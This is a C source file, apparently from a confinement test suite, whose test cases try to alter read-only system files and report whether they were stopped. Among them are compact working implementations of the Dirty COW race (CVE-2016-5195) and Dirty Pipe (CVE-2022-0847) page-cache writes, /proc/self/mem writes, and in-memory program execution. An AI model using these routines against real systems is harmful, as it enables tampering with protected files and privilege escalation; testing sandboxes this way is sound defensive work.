/* Files that are not ours to change, and ways around that. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <linux/fs.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attempt.h"
#include "program.h"

#define VICTIM "/etc/hostile.conf"
#define TEXT "as packaged\n"

TRY_OPEN(write_program, OWN_PROGRAM, O_WRONLY)
TRY_OPEN(write_file, VICTIM, O_RDWR)
TRY_OPEN(truncate_file, VICTIM, O_WRONLY | O_TRUNC)
TRY_OPEN(make_file, "/hostile", O_WRONLY | O_CREAT)
TRY_OPEN(make_nameless, "/etc", O_TMPFILE | O_RDWR)
TRY(remove_file, unlink(VICTIM))
TRY(remove_program, unlink(OWN_PROGRAM))
TRY(move_folder, rename("/etc", "/hostile"))
TRY(make_folder, mkdir("/hostile", 0755))
TRY(make_link, symlink("/proc/1/root", "/hostile"))
TRY(make_hard_link, link(OWN_PROGRAM, "/hostile"))
TRY(change_mode, chmod(VICTIM, 0666))
TRY(change_times, utimensat(AT_FDCWD, VICTIM, NULL, 0))

static struct outcome set_flags(void)
{
	int flags = FS_IMMUTABLE_FL, fd = open(VICTIM, O_RDONLY | O_CLOEXEC);

	return fd < 0 ? broken("open: %m") : of(ioctl(fd, FS_IOC_SETFLAGS, &flags));
}

static struct outcome unchanged(const char *by)
{
	char text[sizeof TEXT] = "";
	int fd = open(VICTIM, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
		return broken("read: %m");
	return strcmp(text, TEXT) == 0 ? prevented("%s", by) : escaped("the file now says %s", text);
}

static char *mapped(int protection, int sharing)
{
	int fd = open(VICTIM, O_RDONLY | O_CLOEXEC);

	return mmap(NULL, sizeof TEXT - 1, protection, sharing, fd, 0);
}

static struct outcome map_writable(void)
{
	char *map = mapped(PROT_READ | PROT_WRITE, MAP_SHARED);

	if (map == MAP_FAILED)
		return refused();
	map[0] = 'X';
	return unchanged("a copy");
}

static struct outcome protect_writable(void)
{
	char *map = mapped(PROT_READ, MAP_SHARED);

	if (map == MAP_FAILED)
		return broken("mmap: %m");
	if (mprotect(map, sizeof TEXT - 1, PROT_READ | PROT_WRITE) != 0)
		return refused();
	map[0] = 'X';
	return unchanged("a copy");
}

/* Writes through /proc/self/mem do not ask the mapping. */
static struct outcome write_memory(int sharing)
{
	char *map = mapped(PROT_READ, sharing);
	int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	if (memory < 0)
		return refused();
	if (pwrite(memory, "X", 1, (off_t)map) != 1)
		return refused();
	return unchanged("copy on write");
}

static struct outcome write_private(void)
{
	return write_memory(MAP_PRIVATE);
}

static struct outcome write_shared(void)
{
	return write_memory(MAP_SHARED);
}

static void *give_back(void *map)
{
	for (;;)
		madvise(map, sizeof TEXT - 1, MADV_DONTNEED);
	return NULL;
}

/* CVE-2016-5195: a page given back while it is copied. */
static struct outcome race_copy(void)
{
	char *map = mapped(PROT_READ, MAP_PRIVATE);
	int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	pthread_t giver;

	if (memory < 0)
		return refused();
	if (pthread_create(&giver, NULL, give_back, map) != 0)
		return broken("no thread");
	for (int i = 0; i < 100000; i++)
		if (pwrite(memory, "X", 1, (off_t)map) != 1)
			return refused();
	return unchanged("copy on write");
}

/* CVE-2022-0847: a pipe that takes a spliced page for one of its own. */
static struct outcome dirty_pipe(void)
{
	static char filling[65536];
	int ends[2], fd = open(VICTIM, O_RDONLY | O_CLOEXEC);
	off_t offset = 0;

	if (fd < 0 || pipe(ends) != 0)
		return broken("pipe: %m");
	if (write(ends[1], filling, sizeof filling) != sizeof filling ||
	    read(ends[0], filling, sizeof filling) != sizeof filling)
		return broken("the pipe holds less: %m");
	if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1)
		return refused();
	if (write(ends[1], "XXXX", 4) != 4)
		return refused();
	return unchanged("a page of the pipe's own");
}

/* vmsplice gives pages of a mapping to a pipe: they must stay read-only there. */
static struct outcome splice_mapping(void)
{
	char *map = mapped(PROT_READ, MAP_SHARED);
	struct iovec pages = {map, sizeof TEXT - 1};
	int ends[2];

	if (pipe(ends) != 0 || map == MAP_FAILED)
		return broken("pipe: %m");
	if (vmsplice(ends[1], &pages, 1, SPLICE_F_GIFT) < 0)
		return refused();
	if (write(ends[1], "XXXX", 4) != 4)
		return refused();
	return unchanged("a page of the pipe's own");
}

static struct outcome execute_memory(void)
{
	int fd = memfd_create("hostile", MFD_CLOEXEC);

	if (fd < 0)
		return refused();
	copy_program(fd);
	fchmod(fd, 0755);
	return executed(NULL, fd);
}

static struct outcome execute_memory_asked(void)
{
	int fd = memfd_create("hostile", MFD_CLOEXEC | 0x10);

	if (fd < 0)
		return refused();
	copy_program(fd);
	return executed(NULL, fd);
}

const struct attempt files[] = {
	{"write-program", "write our own program", write_program},
	{"write-file", "write a file of the package", write_file},
	{"truncate-file", "truncate a file of the package", truncate_file},
	{"create-file", "make a file in the root", make_file},
	{"create-tmpfile", "make a nameless file in a system folder", make_nameless},
	{"unlink-file", "remove a file of the package", remove_file},
	{"unlink-program", "remove our own program", remove_program},
	{"rename-folder", "move a folder of the package", move_folder},
	{"mkdir-root", "make a folder in the root", make_folder},
	{"symlink-root", "make a symbolic link in the root", make_link},
	{"link-root", "make a hard link in the root", make_hard_link},
	{"chmod-file", "change the mode of a file of the package", change_mode},
	{"utimes-file", "change the times of a file of the package", change_times},
	{"immutable-file", "make a file of the package immutable", set_flags},
	{"mmap-shared", "map a read-only file writable", map_writable},
	{"mprotect-shared", "make the mapping of a read-only file writable", protect_writable},
	{"proc-mem-private", "write to a read-only file's private mapping by /proc/self/mem", write_private},
	{"proc-mem-shared", "write to a read-only file's shared mapping by /proc/self/mem", write_shared},
	{"dirty-cow", "win the race of CVE-2016-5195", race_copy},
	{"dirty-pipe", "write to the page cache as in CVE-2022-0847", dirty_pipe},
	{"vmsplice-mapping", "write to the page cache through a pipe of gifted pages", splice_mapping},
	{"memfd-execute", "execute a program that no package brought, from memory", execute_memory},
	{"memfd-execute-asked", "the same, with MFD_EXEC", execute_memory_asked},
	{0},
};
